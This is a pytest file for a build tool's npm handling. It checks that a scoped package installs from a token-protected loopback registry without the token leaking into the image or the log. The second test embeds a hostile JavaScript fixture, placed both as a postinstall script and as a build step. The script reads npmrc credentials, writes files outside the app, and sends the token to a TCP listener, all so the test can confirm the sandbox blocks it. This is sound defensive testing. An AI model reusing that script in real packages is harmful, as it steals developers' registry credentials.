"""Scoped registries and credentials of the user's npm config in `shinken hub build`: a stand-in
app depends on a scoped package that only a loopback registry serves, and only to a request
with its token; its lockfile names another (unreachable) host for it. The build must install
it from the scope's registry with the token, and the token must not be left in the image (its
history, its config, any file of any layer) or in the build log.

Then the same package turned hostile (a postinstall script) and an app whose own build script is:
both try to read the token, reach the network and write outside the app. Neither may (the
install runs no lifecycle script; the build runs with no network, no credentials, no cache, as an
unprivileged user; docs/security.md)."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import secrets
import socket
import tarfile
import tempfile
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Iterator

import pytest

from shinken.images.build import _read_ca
from shinken.mockweb.apps import discover_apps, select_apps
from shinken.mockweb.build import build_app, ensure_node_image
from shinken.mockweb.registry import npm_config
from shinken.sandbox.docker_client import run_container
from shinken.sandbox.ownership import labels_for
from tests.hub_standins import _copy

pytestmark = [pytest.mark.docker, pytest.mark.slow]

GREETING = "hello from the acme registry"


def _package_tgz(postinstall: str | None = None) -> bytes:
    """@acme/greet; with `postinstall`, a lifecycle script (steal.cjs, that source) runs at install."""
    pkg = {"name": "@acme/greet", "version": "1.0.0", "type": "module", "main": "index.js"}
    files = {"package/index.js": f"export const greet = {json.dumps(GREETING)};\n".encode()}
    if postinstall is not None:
        pkg["scripts"] = {"postinstall": "node steal.cjs"}
        files["package/steal.cjs"] = postinstall.encode()
    files["package/package.json"] = json.dumps(pkg).encode()
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o644, 0
            tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


class _Registry:
    """A loopback npm registry serving @acme/greet only to `Authorization: Bearer <token>`."""

    def __init__(self, token: str, tgz: bytes | None = None) -> None:
        self.token, self.tgz, self.seen = token, tgz or _package_tgz(), []  # type: ignore[var-annotated]
        reg = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802
                ok = self.headers.get("Authorization") == f"Bearer {reg.token}"
                reg.seen.append((self.path, ok))
                if not ok:
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Bearer realm="acme"')
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                if self.path.endswith("/-/greet-1.0.0.tgz"):
                    body, kind = reg.tgz, "application/octet-stream"
                elif self.path.rstrip("/") in ("/@acme%2fgreet", "/@acme%2Fgreet", "/@acme/greet"):
                    body = json.dumps({"name": "@acme/greet", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
                        "name": "@acme/greet", "version": "1.0.0", "dist": {
                            "tarball": f"{reg.url}@acme/greet/-/greet-1.0.0.tgz", "integrity": reg.integrity}}}}).encode()
                    kind = "application/json"
                else:
                    self.send_response(404)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        self.integrity = "sha512-" + base64.b64encode(hashlib.sha512(self.tgz).digest()).decode()
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def registry() -> Iterator[_Registry]:
    reg = _Registry("shk-" + secrets.token_hex(16))
    yield reg
    reg.server.shutdown()


def _checkout(tmp_path: Path, reg: _Registry) -> Path:
    """A checkout with `acme`: a copy of the stand-in mailbox app that imports @acme/greet, its
    lockfile naming an unreachable host for it (with the tarball's real integrity)."""
    folder = _copy(tmp_path, "acme")
    pkg = json.loads((folder / "package.json").read_text())
    pkg["dependencies"] = {"@acme/greet": "1.0.0"}
    (folder / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
    lock = json.loads((folder / "package-lock.json").read_text())
    lock["packages"][""]["dependencies"] = {"@acme/greet": "1.0.0"}
    lock["packages"]["node_modules/@acme/greet"] = {
        "version": "1.0.0", "resolved": "https://npm.acme.invalid/@acme/greet/-/greet-1.0.0.tgz",
        "integrity": reg.integrity}
    (folder / "package-lock.json").write_text(json.dumps(lock, indent=2) + "\n")
    main = folder / "src" / "main.js"
    main.write_text("import { greet } from '@acme/greet';\n" + main.read_text()
                    + "\ndocument.title = document.title || greet;\nconsole.log(greet);\n")
    return tmp_path


def _npmrc(tmp_path: Path, reg: _Registry, with_token: bool) -> Path:
    rc = tmp_path / f"npmrc-{with_token}"
    lines = [f"@acme:registry={reg.url}"]
    if with_token:
        lines.append(f"//{reg.url.split('//', 1)[1]}:_authToken=${{ACME_NPM_TOKEN}}")
    rc.write_text("\n".join(lines) + "\n")
    return rc


def test_a_scoped_package_installs_from_its_token_registry_and_the_token_stays_out_of_the_image(
        registry: _Registry, docker_client, tmp_path: Path) -> None:
    # The registry refuses a request without the token (so a build that passes used it).
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(f"{registry.url}@acme/greet/-/greet-1.0.0.tgz", timeout=5)
    assert refused.value.code == 401
    registry.seen.clear()
    (app,) = select_apps(discover_apps(_checkout(tmp_path / "hub", registry)), ["acme"])
    node_tag, node_id, _ = ensure_node_image(docker_client)
    ca = _read_ca(None)
    token = registry.token

    # The token comes from the environment, as npm reads ${VAR} in an npmrc.
    cfg = npm_config(None, env={"npm_config_userconfig": str(_npmrc(tmp_path, registry, True)), "ACME_NPM_TOKEN": token})
    assert cfg.secrets() == [token]
    lines: list[str] = []
    built = build_app(docker_client, app, node_tag, node_id, ca, nocache=True, npm=cfg, progress=lines.append)
    try:
        _check_build(docker_client, built, registry, token, lines, tmp_path)
    finally:  # its sources name this run's registry port: never reused, so not kept
        docker_client.api.remove_image(built.tag, force=True)


def _check_build(docker_client, built, registry: _Registry, token: str, lines: list[str], tmp_path: Path) -> None:
    # The scope's registry served the package (not the lockfile's host), every request with the token.
    assert ("/@acme/greet/-/greet-1.0.0.tgz", True) in registry.seen
    assert all(ok for _, ok in registry.seen), registry.seen
    log = Path(str(built.log)).read_text()
    assert f"from npm.acme.invalid; installing them from the registry configured for @acme {registry.url}" in log
    assert "credentials for //127.0.0.1:" in log
    assert "built in" in log and set(built.phases) == {"install", "build", "commit"}
    # `vite build` ran without npm (npm would print `> mailbox-mock@1.0.0 build` first).
    assert "> vite build" in log and "> mailbox-mock@1.0.0 build" not in log

    # The package is in the app, the token nowhere: log, progress, image config and history, files.
    api = docker_client.api
    out = run_container(docker_client, built.tag, ["sh", "-c", "cat /hub/apps/acme/dist/assets/*.js"],
                                       remove=True, network_mode="none", labels=labels_for("build", task="test-npmrc"))
    assert GREETING.encode() in out
    assert token not in log and not any(token in ln for ln in lines)
    assert token not in json.dumps(api.inspect_image(built.tag)) and token not in json.dumps(api.history(built.tag))
    assert any(p.startswith("/hub/apps/acme/dist/") for p in _files_holding(docker_client, built.tag, GREETING, tmp_path))
    found = _files_holding(docker_client, built.tag, token, tmp_path)
    assert not found, f"token found in the image: {found}"
    assert not list(Path("/tmp").glob("shinken-npmrc-*/npmrc")) or all(
        token not in p.read_text() for p in Path("/tmp").glob("shinken-npmrc-*/npmrc"))
    # The lockfile copy in the image names the scope's registry for the scoped package.
    lock = json.loads(run_container(docker_client, built.tag, ["cat", "/hub/apps/acme/package-lock.json"],
                                                   remove=True, network_mode="none",
                                                   labels=labels_for("build", task="test-npmrc")))
    assert lock["packages"]["node_modules/@acme/greet"]["resolved"] == f"{registry.url}@acme/greet/-/greet-1.0.0.tgz"


def _files_holding(client, ref: str, needle: str, tmp_path: Path) -> list[str]:
    """Files of the image's filesystem (every layer as the container sees it) holding `needle`
    (grep in a container of the image; the needle comes in a mounted file, not the command line)."""
    probe = Path(tempfile.mkdtemp(dir=tmp_path, prefix="probe-"))
    (probe / "needle").write_text(needle + "\n")
    out = run_container(client, ref, ["sh", "-c", "grep -rlsF -f /probe/needle / --exclude-dir=proc --exclude-dir=sys "
                                      "--exclude-dir=dev --exclude-dir=probe; echo exit=$?"],
                                remove=True, network_mode="none", volumes={str(probe): {"bind": "/probe", "mode": "ro"}},
                                labels=labels_for("build", task="test-npmrc"))
    lines = out.decode().split()
    assert lines[-1] in ("exit=0", "exit=1"), lines[-5:]  # 1: no match; anything else: grep failed
    return lines[:-1]


# What a hostile package (as its postinstall) and a hostile app (in its build script) try: read the
# registry credentials, send them to a listener on the host's loopback, write outside the app (the
# shared npm cache, /hub, /). It leaves its findings in RESULT (the app's folder: they end up in
# the image when the step is committed).
_STEAL = r"""
const fs = require('fs'), net = require('net'), path = require('path');
const out = {where: WHERE, uid: process.getuid(), read: [], wrote: []};
let secret = '';
for (const f of [process.env.npm_config_userconfig, '/run/shinken-npm/npmrc'].filter(Boolean)) {
  try { secret += fs.readFileSync(f, 'utf8'); out.read.push(f); } catch (e) {}
}
out.token_read = secret.includes('_authToken');
for (const f of ['/npm-cache/PWNED-' + WHERE, '/hub/PWNED-' + WHERE, '/PWNED-' + WHERE]) {
  try { fs.writeFileSync(f, 'x'); out.wrote.push(f); } catch (e) {}
}
const done = (ok) => { out.net = ok; fs.writeFileSync(RESULT, JSON.stringify(out)); process.exit(0); };
const s = net.connect({host: '127.0.0.1', port: PORT, timeout: 5000});
s.on('connect', () => s.end(WHERE + ':' + secret, () => done(true)));
s.on('error', () => done(false));
s.on('timeout', () => done(false));
"""


def _steal(where: str, port: int, result: str) -> str:
    return _STEAL.replace("WHERE", json.dumps(where)).replace("PORT", str(port)).replace("RESULT", result)


class _Listener:
    """A TCP listener on the host's loopback that keeps whatever is sent to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.port = self.sock.getsockname()[1]
        self.got: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(10)
                data = b""
                try:
                    while chunk := conn.recv(65536):
                        data += chunk
                except OSError:
                    pass
                self.got.append(data or b"(connected)")


def test_a_hostile_package_and_app_get_no_token_no_network_and_no_write_outside(docker_client, tmp_path: Path) -> None:
    """On f382b83 the package's postinstall ran as root on the host network beside the mounted
    token: the listener received the token."""
    listener = _Listener()
    token = "shk-" + secrets.token_hex(16)
    reg = _Registry(token, _package_tgz(postinstall=_steal(
        "postinstall", listener.port, "require('path').join(process.env.INIT_CWD || '.', 'POSTINSTALL_RAN.json')")))
    try:
        root = _checkout(tmp_path / "hub", reg)
        folder = root / "websites" / "acme_mock"
        (folder / "steal-build.cjs").write_text(_steal("build", listener.port, "'dist/steal.json'"))
        lock = json.loads((folder / "package-lock.json").read_text())
        lock["packages"]["node_modules/@acme/greet"]["hasInstallScript"] = True  # as npm records a postinstall
        (folder / "package-lock.json").write_text(json.dumps(lock, indent=2) + "\n")
        pkg = json.loads((folder / "package.json").read_text())
        pkg["scripts"]["build"] = pkg["scripts"]["build"] + " && node steal-build.cjs"
        (folder / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
        (app,) = select_apps(discover_apps(root), ["acme"])
        node_tag, node_id, _ = ensure_node_image(docker_client)
        cfg = npm_config(None, env={"npm_config_userconfig": str(_npmrc(tmp_path, reg, True)), "ACME_NPM_TOKEN": token})
        cache = tmp_path / "npm-cache"  # the build's shared npm cache: a private one here
        built = build_app(docker_client, app, node_tag, node_id, _read_ca(None), nocache=True, npm=cfg,
                          npm_cache=cache)
        try:
            time.sleep(1)  # a connection that made it would have been read by now
            assert listener.got == [], listener.got  # neither the package nor the app reached the host
            assert ("/@acme/greet/-/greet-1.0.0.tgz", True) in reg.seen  # installed, with the token
            # `echo`: the findings end without a newline, and a one-shot container's output loses a
            # last unterminated line about half the time (the engine's followed log ends first)
            files = run_container(docker_client, built.tag, ["sh", "-c", "ls /hub/apps/acme; cat /hub/apps/acme/dist/steal.json; echo"],
                                  remove=True, network_mode="none", labels=labels_for("build", task="test-npmrc")).decode()
            assert "POSTINSTALL_RAN.json" not in files  # no lifecycle script ran at install
            assert files.strip().splitlines()[-1].startswith("{"), files  # the build's findings: it ran to its end
            found = json.loads(files.strip().splitlines()[-1])
            assert found["uid"] != 0 and found["net"] is False, found
            assert found["token_read"] is False and found["read"] == [] and found["wrote"] == [], found
            assert not list(cache.rglob("PWNED*")), list(cache.rglob("PWNED*"))
            assert not _files_holding(docker_client, built.tag, token, tmp_path)
        finally:
            docker_client.api.remove_image(built.tag, force=True)
    finally:
        reg.server.shutdown()
        listener.sock.close()
